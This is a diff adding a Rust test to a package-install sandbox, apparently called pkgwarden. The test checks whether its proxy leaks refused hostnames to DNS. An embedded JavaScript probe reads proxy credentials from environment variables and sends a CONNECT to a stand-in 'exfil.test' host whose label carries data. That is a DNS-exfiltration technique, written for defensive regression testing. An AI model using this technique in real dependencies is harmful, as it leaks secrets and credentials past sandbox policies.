@@ -993,3 +993,113 @@ for (const [k, v] of Object.entries(got)) r[k] = v;
         r.report["findings"]
     );
 }
+
+/// The dependency's script: asks pkgwarden's proxy (the one
+/// `HTTPS_PROXY`/`HTTP_PROXY` name inside the sandbox) to `CONNECT` to a
+/// host whose first label carries data, and records the answer's status
+/// line. No policy allows that host. It authenticates with the proxy's
+/// credentials from the variable, as npm does.
+const PROXY_LOOKUP_PROBE: &str = r#"
+const cp = require("child_process");
+const proxy = new URL(process.env.HTTPS_PROXY || process.env.https_proxy || process.env.HTTP_PROXY || process.env.http_proxy);
+const auth = Buffer.from(decodeURIComponent(proxy.username) + ":" + decodeURIComponent(proxy.password)).toString("base64");
+const js = `const s = require("net").connect(${JSON.stringify(Number(proxy.port))}, ${JSON.stringify(proxy.hostname)}, () =>
+  s.write("CONNECT eyes13-secret-6c65616b.exfil.test:443 HTTP/1.1\\r\\nHost: eyes13-secret-6c65616b.exfil.test:443\\r\\nProxy-Authorization: Basic ${auth}\\r\\n\\r\\n"));
+s.on("data", d => { process.stdout.write(String(d).split("\\r\\n")[0]); s.destroy(); });
+s.on("error", e => process.stdout.write("ERR " + e.code));`;
+r.answer = cp.execFileSync(process.execPath, ["-e", js], {timeout: 15000}).toString();
+"#;
+
+/// Class 1 (DNS exfiltration; "the install needs no DNS: the proxy
+/// resolves"). The proxy's `decide` resolves every asked name
+/// (`to_socket_addrs`) before it looks at the policy, so a `CONNECT` to a
+/// host no policy allows makes pkgwarden, outside the sandbox, send the
+/// name to the user's DNS resolver: the data in its labels reaches the
+/// domain's name server although the request is refused. Root only: the
+/// test runs pkgwarden in a mount namespace of its own where
+/// `/etc/resolv.conf` names a UDP listener the test binds on loopback, and
+/// reads what that listener hears. Block mode.
+#[test]
+#[ignore = "round 13: in block, a CONNECT to a host no policy allows makes the proxy send that name to the DNS resolver (DNS exfiltration through pkgwarden)"]
+fn the_proxy_resolves_no_name_the_policy_refuses() {
+    use support::probes::{deps, probe};
+    if !nix::unistd::geteuid().is_root() {
+        eprintln!("skipped: needs root (a mount namespace and port 53)");
+        return;
+    }
+    let dns = std::net::UdpSocket::bind("127.0.0.113:53").expect("port 53 on 127.0.0.113");
+    dns.set_read_timeout(Some(std::time::Duration::from_millis(200)))
+        .unwrap();
+    let heard = std::sync::Arc::new(std::sync::Mutex::new(Vec::<String>::new()));
+    let stop = std::sync::Arc::new(std::sync::atomic::AtomicBool::new(false));
+    let listener = {
+        let (heard, stop) = (heard.clone(), stop.clone());
+        std::thread::spawn(move || {
+            let mut buf = [0u8; 512];
+            while !stop.load(std::sync::atomic::Ordering::Relaxed) {
+                if let Ok((n, _)) = dns.recv_from(&mut buf) {
+                    // Question names, as text (labels keep their bytes).
+                    heard
+                        .lock()
+                        .unwrap()
+                        .push(String::from_utf8_lossy(&buf[..n]).into_owned());
+                }
+            }
+        })
+    };
+    let registry = NpmRegistry::start_with(vec![probe("pw-dns", PROXY_LOOKUP_PROBE)]);
+    let env = ShimEnv::new(&[]);
+    let rc = env.home.path().join("resolv.conf");
+    fs::write(
+        &rc,
+        "nameserver 127.0.0.113\noptions timeout:1 attempts:1\n",
+    )
+    .unwrap();
+    let project = env.home.subdir("proj");
+    fs::write(project.join("package.json"), deps(&["pw-dns"]).to_string()).unwrap();
+    let before = env.report_files();
+    let url = registry.registry_url();
+    let out = run(env
+        .bare("unshare")
+        .args([
+            "-m",
+            "sh",
+            "-c",
+            "mount --bind \"$0\" /etc/resolv.conf && exec \"$@\"",
+        ])
+        .arg(&rc)
+        .arg(pkgwarden_bin())
+        .args(["run", "--sandbox", "--mode", "block", "--"])
+        .args(["npm", "install", "--registry", &url])
+        .current_dir(&project));
+    stop.store(true, std::sync::atomic::Ordering::Relaxed);
+    listener.join().unwrap();
+    let new = env.reports_since(&before);
+    assert_eq!(new.len(), 1, "{}", stderr_str(&out));
+    let report: Value = serde_json::from_slice(&fs::read(&new[0]).unwrap()).unwrap();
+    let result = fs::read(project.join("node_modules/pw-dns/result.json"))
+        .map(|b| serde_json::from_slice::<Value>(&b).unwrap())
+        .unwrap_or(Value::Null);
+    assert!(
+        !result.is_null(),
+        "pw-dns did not run\n{}",
+        stderr_str(&out)
+    );
+    let leaked: Vec<String> = heard
+        .lock()
+        .unwrap()
+        .iter()
+        .filter(|q| q.contains("eyes13-secret-6c65616b"))
+        .cloned()
+        .collect();
+    eprintln!(
+        "answer {}; findings {:#}",
+        result["answer"], report["findings"]
+    );
+    assert!(
+        leaked.is_empty(),
+        "the resolver was asked for the refused name {} time(s) (answer to the CONNECT: {})",
+        leaked.len(),
+        result["answer"]
+    );
+}
